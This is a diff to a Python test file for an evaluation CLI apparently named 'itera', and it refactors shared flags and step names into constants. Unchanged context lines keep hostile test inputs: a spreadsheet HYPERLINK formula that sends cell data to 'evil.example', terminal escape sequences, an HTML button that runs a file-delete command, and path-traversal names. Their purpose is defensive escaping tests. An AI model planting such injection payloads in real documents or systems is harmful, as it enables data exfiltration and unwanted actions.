@@ -10,6 +10,7 @@ import pickle
 import re
 import subprocess
 import sys
+from pathlib import Path
 from types import SimpleNamespace
 
 import numpy as np
@@ -33,6 +34,12 @@ BUTTON = '<button data-commandlinker-command="filebrowser:delete" data-commandli
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 CONTROL = "\x1b[2J\x1b[31mred\x1b[0m\rover\x07\x00"
 HOSTILE = (SCRIPT, IMAGE, SVG, LINK, BUTTON, FORMULA, CONTROL.replace("\x00", ""), "$\\frac{x}{0}$")
+NAMED = (
+    "frame.form arms.changes plan source.preview source.sample source.audit split.seal metric.try_on "
+    "metric.failure_modes metric.lock pilot noise cost patterns inspect clusters gate lock status next "
+    "preflight verdict forest slices cost_accuracy conclusion"
+)
+FLAGS = "--data eval.csv --id ticket_id --expected label --baseline rules.py:v1 --arm rules.py:v2"
 ARMS = """\
 def answer(row, kinds):
     words = row["text"].split()
@@ -66,10 +73,7 @@ def hostile(tmp_path_factory):
     world = new_world(tmp_path_factory.mktemp("hostile") / "world")
     write_csv(world.project / "eval.csv", hostile_rows())
     (world.project / "rules.py").write_text(ARMS, "utf-8")
-    flags = (
-        "--data eval.csv --id ticket_id --expected label --input text --slices tenant "
-        "--baseline rules.py:v1 --arm rules.py:v2"
-    ).split()
+    flags = f"{FLAGS} --input text --slices tenant".split()
     made = world.itera(
         "new", "hostile", *flags, f"--question=Ship {SCRIPT} or kill {LINK}?", cwd=world.project
     )
@@ -79,11 +83,7 @@ def hostile(tmp_path_factory):
     with world.entered() as exp:
         go(exp)
         body = conclude(exp)
-        named = (
-            "frame.form arms.changes plan source.preview source.sample source.audit split.seal metric.try_on "
-            "metric.failure_modes metric.lock pilot noise cost patterns inspect clusters gate lock status next "
-            "preflight verdict forest slices cost_accuracy conclusion"
-        ).split()
+        named = NAMED.split()
         views = [exp.train.head(50), exp.run("dev")]
         for name in named:
             action = exp
@@ -126,7 +126,7 @@ def test_f01_names(tmp_path, monkeypatch):
     (project / "rules.py").write_text(ARMS, "utf-8")
     monkeypatch.chdir(project)
     before = sorted(tmp_path.rglob("*"))
-    flags = "--data eval.csv --id ticket_id --expected label --baseline rules.py:v1 --arm rules.py:v2".split()
+    flags = FLAGS.split()
     for name in (
         "../../x",
         "/tmp/itera-x",
@@ -144,7 +144,7 @@ def test_f01_names(tmp_path, monkeypatch):
         assert done.code == 2, name
         assert not set(done.text) & {"\0", "\u202e"}
         assert sorted(tmp_path.rglob("*")) == before, name
-    assert not os.path.exists("/tmp/itera-x")
+    assert not Path("/tmp/itera-x").exists()
 
 
 @step(
